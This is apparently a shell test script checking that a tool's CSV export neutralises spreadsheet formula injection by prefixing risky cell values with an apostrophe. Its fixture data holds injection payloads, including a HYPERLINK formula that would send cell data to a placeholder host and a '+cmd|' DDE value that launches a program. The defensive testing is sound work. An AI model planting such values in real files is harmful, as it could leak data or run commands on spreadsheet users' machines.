# t0039-formulas: names that Excel or WPS would run as formulas (issue 13,
# defect 3) are exported to CSV with an apostrophe before them, and import
# back as they were; numbers (-12.5) are left as they are; JSON and XLSX
# carry the text as it is.
$KFQ --db f.db init > /dev/null
cat > u.csv <<'CSV'
code,name,kind,parent,industry,land_mu,hightech
z,"=HYPERLINK(""http://x/?d=""&A1,""x"")",zone,,,,
p1,+cmd|' /C calc'!A0,park,z,,,
p2,@SUM(A1:A9),park,z,,,
p3,-2+3,park,z,,,
p6,'s-Hertogenbosch,park,z,,,
p7,-12.5,park,z,,,
CSV
printf 'p9,"\rcr",park,z,,,\n' >> u.csv
check "names that look like formulas import" $KFQ --db f.db import units u.csv
$KFQ --db f.db export units > e1.csv
has e1.csv "z,\"'=HYPERLINK(\"\"http://x/?d=\"\"&A1,\"\"x\"\")\",zone" "=HYPERLINK is guarded"
has e1.csv "p1,'+cmd|' /C calc'!A0,park" "+cmd is guarded"
has e1.csv "p2,'@SUM(A1:A9),park" "@SUM is guarded"
has e1.csv "p3,'-2+3,park" "-2+3 is guarded"
has e1.csv "p7,-12.5,park" "a number is not"
has e1.csv "p6,'s-Hertogenbosch,park" "nor a name that merely begins with an apostrophe"
equal "$(grep -c "^p9,\"'$(printf '\r')cr\"" e1.csv)" 1 "a carriage return at the start is guarded"
equal "$(grep -cE '(^|,)"?[=+@]' e1.csv)" 0 "no cell of the export begins with = + or @"
$KFQ --db g.db init > /dev/null
check "the export imports into another database" $KFQ --db g.db import units e1.csv
$KFQ --db g.db export units > e2.csv
same e1.csv e2.csv "and exports the same: every name came back as it was"
$KFQ --db g.db export units --format json > e.json
has e.json '"name": "=HYPERLINK(\"http://x/?d=\"&A1,\"x\")"' "JSON carries the text as it is"
